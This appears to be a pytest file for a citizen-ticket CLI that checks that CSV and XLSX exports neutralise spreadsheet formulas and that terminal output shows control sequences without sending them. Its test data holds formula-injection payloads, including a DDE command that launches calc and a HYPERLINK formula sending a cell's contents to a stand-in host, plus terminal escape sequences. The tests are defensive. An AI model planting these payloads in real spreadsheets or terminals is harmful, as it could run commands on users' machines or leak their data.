"""Citizen text never acts on a spreadsheet or a terminal: exported cells that a spreadsheet
would run as formulas are written as text with a leading apostrophe (CSV and XLSX, read back
from the files), and text-mode output shows control sequences instead of sending them."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from openpyxl import load_workbook

from tests.test_ticket_cli import run

FORMULAS = {
    "demand": '=HYPERLINK("http://x.example/?"&A1,"点此")',
    "details": "+cmd|' /C calc'!A0",
    "situation": "-2+3",
    "location": "@SUM(1,2)",
    "occurred_at": "=1+1",
}
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m红字\u202e反转"


def _add(tmp_path: Path, **fields: object) -> dict[str, object]:
    ticket = {"phone": "13800000001", "demand": "咨询", "request_type": "consult",
              "channel": "web", **fields}
    result = run(["add", "--json"], tmp_path, json.dumps(ticket, ensure_ascii=False))
    assert result.returncode == 0, result.stdout + result.stderr
    return json.loads(result.stdout)


def test_csv_and_xlsx_cells_are_never_formulas(tmp_path: Path) -> None:
    _add(tmp_path, **FORMULAS, address="=1+2")
    _add(tmp_path, demand="普通诉求,没有公式 = 也没关系")
    assert run(["export", "--format", "csv", "--out", "t.csv"], tmp_path).returncode == 0
    assert run(["export", "--format", "xlsx", "--out", "t.xlsx"], tmp_path).returncode == 0
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as handle:
        csv_rows = list(csv.reader(handle))
    book = load_workbook(tmp_path / "t.xlsx")
    sheet = book.active
    xlsx_rows = [[cell for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert len(csv_rows) == 3 and len(xlsx_rows) == 2
    csv_cells = [cell for row in csv_rows[1:] for cell in row]
    xlsx_cells = [cell for row in xlsx_rows for cell in row]
    for value in (*FORMULAS.values(), "=1+2"):
        assert "'" + value in csv_cells, value
        assert value not in csv_cells, value
        matching = [c for c in xlsx_cells if c.value == "'" + value]
        assert matching and all(c.data_type == "s" for c in matching), value
    for cell in csv_cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for cell in xlsx_cells:
        assert cell.data_type != "f", cell.value
        assert not str(cell.value or "").startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    assert "普通诉求,没有公式 = 也没关系" in csv_cells  # ordinary text unchanged


def test_tab_and_carriage_return_starts_are_neutralised_too() -> None:
    from seat_console.core.spreadsheet import safe_cell

    assert [safe_cell(v) for v in ("\t=1", "\r=1", "a=1", None, 5)] == [
        "'\t=1", "'\r=1", "a=1", "", "5"]


def test_text_mode_output_never_sends_control_sequences(tmp_path: Path) -> None:
    stored = _add(tmp_path, demand=f"诉求{ESCAPES}", caller_name="\x1b[5m名", details=ESCAPES)
    outputs = [run(["list"], tmp_path), run(["show", str(stored["number"])], tmp_path),
               run(["show", "\x1b[31mX"], tmp_path),
               run(["export", "--format", "csv", "--out", "\x1b[31m.csv"], tmp_path)]
    for result in outputs:
        for stream in (result.stdout, result.stderr):
            assert not any(ch in stream for ch in ("\x1b", "\x07", "\u202e")), repr(stream[:200])
    assert "␛" in outputs[0].stdout and "␛" in outputs[1].stdout  # shown, not run
    assert "␛" in outputs[2].stderr
